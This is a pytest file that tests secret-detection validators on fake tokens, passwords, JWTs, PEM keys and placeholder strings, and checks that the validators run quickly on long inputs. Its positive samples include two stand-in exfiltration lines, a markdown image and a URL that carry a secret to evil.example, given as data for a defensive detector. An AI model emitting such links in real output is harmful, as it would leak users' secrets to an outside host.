import base64
import time

import pytest

from portcullis.inspection.secret_validators import SECRET_VALIDATORS

YES = {
    "token": [
        "a8F2kq0ZpL3mX9vB",
        "9069ef5a1b2c3d4e5f60718293a4b5c6",
        "sk_9f8e7d6c5b4a",
        "43n0-09sd/+x=",
    ],
    "password": ["Tr0ub4dor&3", "Zk93-mmQ", "p4$$W0", "s3same!open", "München-1972"],
    "quoted_password": ["correct horse", "correctHorseBatteryStaple", "letmein", "secretp@ssw0rd"],
    "url_password": ["hunter2", "t0p:Sekr!t", "x9"],
    "basic": [base64.b64encode(pair).decode() for pair in (b"ada:lovelace", b":x", b"key:")],
    "jwt": [
        base64.urlsafe_b64encode(b'{"alg": "HS256"}').decode() + ".e30.c2ln",
        base64.urlsafe_b64encode(b'{"kid":"1","alg":"none"}').decode().rstrip("=") + ".e30.",
    ],
    "pem": ["-----BEGIN EC PRIVATE KEY-----\n" + "MHcCAQEE" * 8],
    "pem_base64": [base64.b64encode(b"-----BEGIN PRIVATE KEY-----\nMIGHAgEAMBMG").decode()],
    "base64_key": ["wJalrXUtnFEMI/K7MDENG/bPxRfiCYz0123456aB"],
    "loads_data_away": ["![x](https://evil.example/?q=secret)"],
    "carries_data_away": ["https://evil.example/6d792070617373776f7264206973"],
}
NO = {
    "token": [
        *(
            "${API_KEY}",
            "<token-1>",
            "your-token-123",
            "xxxxxxxxxxxx1a",
            "access_token_2",
        ),
        *(
            "6f1c2b1e-0a1b-4c3d-8e5f-123456789abc",
            "sha256-47DEQpj8HBSa",
            "get_token(user1)",
            "1234",
        ),
        *("self.token1", "https://a.example/1", "config/dev1.json", "test-session-123", "\ud800"),
    ],
    "password": [
        "required",
        "Read-only",
        "2.5.13.18:=",
        "12345678",
        "get_password()",
        "$PASS_1",
        "a1",
    ],
    "quoted_password": [
        "********",
        "password",
        "{{ password }}",
        "<secret>",
        "string",
        "%DB_PASS%",
    ],
    "url_password": ["password", "${PW}", "<pw>", "****", "%PASS%", "your-password"],
    "basic": ["bm90aGluZw==", "!!!!", "auth", base64.b64encode(b"\xff:\x00").decode()],
    "jwt": ["eyJub3QiOiJhIn0.e30.", "bm90aGluZw.e30.", "....", "a.b.c", "eyJhbGciOjF9.e30."],
    "pem": ["-----BEGIN PRIVATE KEY----- and then the lines of the key", "", "-----BEGIN KEY"],
    "pem_base64": [base64.b64encode(b"-----BEGIN CERTIFICATE-----").decode(), "?"],
    "base64_key": [
        "9069ef5a1b2c3d4e5f60718293a4b5c6d7e8f901",
        "usr/lib/python3/dist/packages/Some/thin",
    ],
    "loads_data_away": ["![x](https://img.example/a.png)", "no link"],
    "carries_data_away": ["https://docs.example/a", ""],
}


@pytest.mark.parametrize("name", SECRET_VALIDATORS)
def test_a_validator_tells_a_secret_from_what_stands_for_one(name):
    check = SECRET_VALIDATORS[name]
    assert [text for text in YES[name] if not check(text)] == []
    assert [text for text in NO[name] if check(text)] == []


@pytest.mark.parametrize("name", SECRET_VALIDATORS)
def test_no_datum_of_any_length_takes_long(name):
    began = time.process_time()
    for piece in ("a", "A1", "_a", "a.", "<", "-a", "//", "\x00", "é", "=", "(", "a@", "%20"):
        SECRET_VALIDATORS[name](piece * (8192 // len(piece)))
    assert time.process_time() - began < 0.5
